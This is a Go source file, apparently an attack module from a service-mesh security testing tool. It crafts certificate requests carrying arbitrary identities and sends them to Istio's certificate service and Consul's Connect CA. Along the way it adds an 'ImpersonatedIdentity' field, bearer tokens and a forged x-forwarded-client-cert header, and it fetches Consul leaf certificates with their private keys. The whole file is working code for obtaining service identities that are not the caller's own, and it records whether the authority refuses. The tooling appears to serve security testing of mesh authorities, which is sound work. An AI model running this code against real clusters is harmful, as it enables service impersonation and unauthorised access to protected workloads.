package attacks

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"net/netip"
	"net/url"
	"path"
	"time"

	"google.golang.org/protobuf/encoding/protowire"

	"github.com/meshbreach/meshbreach/attacker"
)

// The protocols of authorities.
const (
	protocolIstio  = "istio"
	protocolConsul = "consul"
)

// newRequest makes a key and a certificate request for it, both PEM. The URIs
// are not checked: what an authority makes of them is what is tried.
func newRequest(uris []string) (key, csr string, err error) {
	secret, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", "", fmt.Errorf("make a key: %w", err)
	}
	template := new(x509.CertificateRequest)
	for _, s := range uris {
		u, err := url.Parse(s)
		if err != nil {
			return "", "", fmt.Errorf("ask for an identity: %w", err)
		}
		template.URIs = append(template.URIs, u)
	}
	asked, err := x509.CreateCertificateRequest(rand.Reader, template, secret)
	if err != nil {
		return "", "", fmt.Errorf("make a request: %w", err)
	}
	der, err := x509.MarshalPKCS8PrivateKey(secret)
	if err != nil {
		return "", "", fmt.Errorf("write the key: %w", err)
	}
	text := func(kind string, der []byte) string {
		return string(pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: der}))
	}
	return text("PRIVATE KEY", der), text("CERTIFICATE REQUEST", asked), nil
}

// issued reads the leaf of a chain.
func issued(chain string) (*x509.Certificate, error) {
	block, _ := pem.Decode([]byte(chain))
	if block == nil {
		return nil, errors.New("it is not PEM")
	}
	return x509.ParseCertificate(block.Bytes)
}

func uris(leaf *x509.Certificate) []string {
	var out []string
	for _, u := range leaf.URIs {
		out = append(out, u.String())
	}
	return out
}

// call makes one call of the authority's.
func (a asking) call(ctx context.Context, f attacker.Foothold, nonce, method string, metadata map[string][]string, message []byte, secrets ...string) ([]byte, attacker.Observation) {
	p := attacker.Procedure{
		Nonce: nonce, Address: a.authority.Address, Method: method, Metadata: metadata, Message: message, Secrets: secrets,
	}
	if a.authority.ServerName != "" {
		p.TLS = &attacker.TLS{Leaf: a.leaf, ServerName: a.authority.ServerName, ALPN: []string{"h2"}}
	}
	return f.Invoke(ctx, p)
}

// istio asks by istio.v1.auth.IstioCertificateService, as in istio.io/api
// security/v1alpha1/ca.proto.
func (a asking) istio(ctx context.Context, f attacker.Foothold, nonce, csr string) (string, attacker.Observation) {
	message := text(nil, 1, csr)
	if a.validity > 0 {
		message = protowire.AppendTag(message, 3, protowire.VarintType)
		message = protowire.AppendVarint(message, uint64(a.validity/time.Second))
	}
	if a.impersonate != "" {
		// A google.protobuf.Struct: a map of names to values.
		entry := text(text(nil, 1, "ImpersonatedIdentity"), 2, string(text(nil, 3, a.impersonate)))
		message = text(message, 4, string(text(nil, 1, string(entry))))
	}
	metadata := map[string][]string{}
	if a.authority.Cluster != "" {
		metadata["clusterid"] = []string{a.authority.Cluster}
	}
	if a.token != "" {
		metadata["authorization"] = []string{"Bearer " + a.token}
	}
	if a.forwarded != "" {
		metadata["x-forwarded-client-cert"] = []string{"URI=" + a.forwarded}
	}
	answer, o := a.call(ctx, f, nonce, "/istio.v1.auth.IstioCertificateService/CreateCertificate", metadata, message)
	chain := ""
	for _, part := range texts(answer, 1) {
		chain += part
	}
	return chain, o
}

// consul logs in by the auth method and asks for a leaf as a proxy's agent does,
// by Consul's HTTP API. It names one service and has no field for a life; the
// key is Consul's.
func (a asking) consul(ctx context.Context, f attacker.Foothold, nonce string) (chain, key string, o attacker.Observation) {
	ask := attacker.Request{Nonce: nonce, Address: a.authority.Address, Headers: map[string][]string{"content-type": {"application/json"}}}
	var related []netip.AddrPort
	if a.token != "" {
		login := ask
		login.Method, login.Path = "POST", "/v1/acl/login"
		login.Body = `{"AuthMethod":"` + a.authority.Method + `","BearerToken":"` + a.token + `"}`
		answer, o := f.Fetch(ctx, login)
		if o.Refusal != nil {
			return "", "", o
		}
		var token struct{ SecretID string }
		if err := json.Unmarshal(answer, &token); err != nil || token.SecretID == "" {
			o.Reply, o.Refusal = nil, &attacker.Refusal{Layer: attacker.LayerApp, Text: "the answer holds no token"}
			return "", "", o
		}
		related = append(related, o.Local)
		ask.Headers = map[string][]string{"x-consul-token": {token.SecretID}}
	}
	ask.Path = "/v1/agent/connect/ca/leaf/" + path.Base(a.uris[0])
	answer, o := f.Fetch(ctx, ask)
	o.Related = related
	var leaf struct{ CertPEM, PrivateKeyPEM string }
	if o.Refusal == nil && json.Unmarshal(answer, &leaf) != nil {
		o.Reply, o.Refusal = nil, &attacker.Refusal{Layer: attacker.LayerApp, Text: "the answer holds no leaf"}
	}
	return leaf.CertPEM, leaf.PrivateKeyPEM, o
}

// ruled says whether the authority itself decided on a refusal.
func (a asking) ruled(r attacker.Refusal) bool {
	spoken := a.authority.Protocol == protocolConsul && r.Layer == attacker.LayerHTTP
	return r.Ruled() || spoken && r.Code >= 400 && r.Code < 500
}

// text adds a field of bytes, which is also what text and messages are.
func text(to []byte, number protowire.Number, value string) []byte {
	return protowire.AppendString(protowire.AppendTag(to, number, protowire.BytesType), value)
}

// texts are a field's values, in order; what is no message has none.
func texts(message []byte, number protowire.Number) []string {
	var out []string
	for len(message) > 0 {
		n, kind, size := protowire.ConsumeTag(message)
		if size < 0 {
			return nil
		}
		message = message[size:]
		if n == number && kind == protowire.BytesType {
			value, size := protowire.ConsumeBytes(message)
			if size < 0 {
				return nil
			}
			out, message = append(out, string(value)), message[size:]
			continue
		}
		size = protowire.ConsumeFieldValue(n, kind, message)
		if size < 0 {
			return nil
		}
		message = message[size:]
	}
	return out
}
